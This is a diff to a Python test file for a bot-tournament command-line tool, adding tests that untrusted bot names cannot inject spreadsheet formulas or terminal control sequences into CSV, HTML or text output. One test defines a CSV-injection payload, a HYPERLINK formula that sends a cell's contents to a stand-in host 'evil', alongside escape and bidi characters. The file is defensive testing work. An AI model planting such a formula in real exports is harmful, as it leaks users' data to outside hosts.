@@ -54,7 +54,7 @@ class Commands:
         self.store = str(folder / "night.sqlite")
         self._capsys = capsys
 
-    def workers(self, jobs: int, *, pin: bool) -> Any:
+    def workers(self, jobs: int, *, pin: bool = False) -> Any:
         """In place of processes."""
         executor = MadeUp(self.result, self.most)
         self.played = executor.played
@@ -555,6 +555,10 @@ def test_the_anchor(commands: Commands) -> None:
         (["standings", "night.sqlite", "--bot", "x"], "--bot x: there are: minimal"),
         (["standings", "night.sqlite", "--watch", "--format", "csv"], "--watch shows text"),
         (["verify", "--store", "night.sqlite", "--log", "x"], "--store takes neither"),
+        (
+            ["verify", "--store", "night.sqlite", "--records-of", "none"],
+            "--records-of none: there is no such folder",
+        ),
     ],
 )
 def test_wrong_usage(commands: Commands, words: list[str], says: str) -> None:
@@ -604,7 +608,7 @@ MATCH = "UPDATE matches SET {} WHERE match = 3"
         ("UPDATE bots SET name = 'x' || char(27) WHERE bot = 1", "table bots, bot 1: "),
         ("DELETE FROM matches WHERE match = 3", "match 3: it has no row in matches"),
         (MATCH.format("match = -5"), "matches, match -5: match: Expected `int` >= 0"),
-        (MATCH.format("match = 1000000000000000"), "match 1000000000000000: 2 matches make a deal"),
+        (MATCH.format("match = 1000000000000000"), "match 1000000000000000: it is not of deal"),
         (MATCH.format("match = 13, deal = 6"), "match 13: it has no row in seats"),
         (MATCH.format("deal = 999999999999"), "match 3: deal: Expected `int` <= 4294967295"),
         (MATCH.format("seconds = 9e999"), "match 3: seconds: Expected `float` <= "),
@@ -673,7 +677,7 @@ def test_export_as_csv(commands: Commands) -> None:
     commands.result = exported
     # What a shell would take for more or less than one word is quoted.
     names = {"plain": "plain"}
-    names |= {name: shlex.quote(name) for name in ("two words", "it's", "a\tb")}
+    names |= {name: shlex.quote(name) for name in ("two words", "it's", "a\\b")}
     tables = "".join(f"[[bot]]\nname = {json.dumps(name)}\ncommand = 'minimal'\n" for name in names)
     Path("night.toml").write_text(tables)
     commands.tournament("--config", "night.toml", "--deals", "1")
@@ -695,6 +699,53 @@ def test_export_as_csv(commands: Commands) -> None:
                 assert found[name] == str(getattr(line, name))
     used = {name for found in rows for name in names.values() if name in found["players"]}
     assert used == set(names.values())
+
+
+FORMULA = '=HYPERLINK("http://evil/?"&A1)'
+
+
+def test_what_a_stranger_calls_itself_neither_runs_nor_drives_a_terminal(
+    commands: Commands,
+) -> None:
+    driving = "\x1b[2J\x9b\u202e\u2066\n"
+    commands.result = lambda plan: row(
+        plan,
+        names=[FORMULA, f"@{driving}"],
+        ranks=[1, 2],
+        reason=f"-{driving}",
+        digest=f"+{driving}",
+        faults=[{}, {f"<b>{driving}": 1}],
+        left=[None, left(f"{driving}=1")],
+    )
+    names = ["=x", "-y"]
+    tables = "".join(f"[[bot]]\nname = '{name}'\ncommand = 'minimal'\n" for name in names)
+    Path("night.toml").write_text(tables)
+    seen = [commands.tournament("--config", "night.toml", "--deals", "1")]
+    seen.append(commands.run("standings", commands.store, "--bot=-y"))
+    seen.append(commands.run("standings", commands.store, "--format", "html"))
+    seen.append(commands.run("standings", commands.store, "--format", "csv"))
+    cells = [(bot["name"], bot["calls_itself"]) for bot in csv.DictReader(seen[-1].splitlines())]
+    assert [name for name, _ in sorted(cells)] == ["'-y", "'=x"]
+    assert all(own[:2] in ("'=", "'@") for _, own in cells)
+    seen.append(commands.run("export", commands.store))
+    for match in csv.DictReader(seen[-1].splitlines()):
+        assert match["players"] in ("'=x -y", "'-y =x")
+        assert match["reason"] == r"'-\x1b[2J\x9b\u202e\u2066\n"
+        assert match["digest"][:2] == "'+"
+        assert match["ranks"] == "1 2"
+    for text in seen:
+        assert all(line.isprintable() for line in text.split("\n"))
+
+
+def test_a_report_is_not_written_over_what_it_is_of(commands: Commands) -> None:
+    commands.tournament(*BOTS, "--deals", "1", "--seed", "1")
+    before = Path(commands.store).read_bytes()
+    Path("link").symlink_to(commands.store)
+    for command in (["standings", commands.store], ["export", commands.store]):
+        commands.run(*command, "--output", "link", code=2)
+        assert f"link and {commands.store} are the same file" in one_line(commands.err)
+    commands.run("verify", "--store", commands.store, "--output", commands.store, code=2)
+    assert Path(commands.store).read_bytes() == before
 
 
 @pytest.mark.parametrize(
